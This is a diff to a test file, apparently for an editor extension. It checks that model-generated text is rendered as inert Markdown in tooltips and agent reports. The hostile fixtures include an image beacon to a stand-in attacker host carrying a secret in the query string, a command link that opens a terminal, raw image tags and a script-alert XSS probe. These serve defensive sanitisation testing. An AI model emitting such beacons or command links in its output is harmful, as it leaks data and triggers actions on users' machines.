@@ -10,6 +10,8 @@ import { adrBadges, qcBadges, renderBadges } from '../../src/extension/models/re
 import { isSafeHref, sanitizeHtml } from '../../src/extension/models/sanitize';
 import { parseWebviewMessage } from '../../src/extension/models/webviewProtocol';
 import { renderPage } from '../../src/extension/models/webviewPage';
+import { mdText } from '../../src/extension/models/inertText';
+import MarkdownIt from 'markdown-it';
 
 const HOSTILE = [
   '# QC report <script>alert(1)</script>',
@@ -156,5 +158,17 @@ describe('markdown rendering of agent files', () => {
     const html = renderMarkdown('## Recommendation\nPASS — proceed to assembly\n<!-- DONE -->\n');
     assert.doesNotMatch(html, /DONE/);
     assert.match(html, /proceed to assembly/);
+  });
+});
+
+describe('model text in tree tooltips (markdown)', () => {
+  it('shows the same characters and makes no image, link or emphasis of them', () => {
+    const md = new MarkdownIt({ linkify: false });
+    const hostile = 'see ![beacon](https://evil.example/?q=secret) and [click](command:workbench.action.terminal.new) **loud** <img src=x> `code`\nnext line';
+    const html = md.render(mdText(hostile));
+    assert.doesNotMatch(html, /<img|<a |<strong>|<code>/, html);
+    // The words are all there, unescaped again by the renderer.
+    const text = html.replace(/<br>\n?/g, '\n').replace(/<\/?p>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&').replace(/&quot;/g, '"').trim();
+    assert.equal(text, hostile);
   });
 });
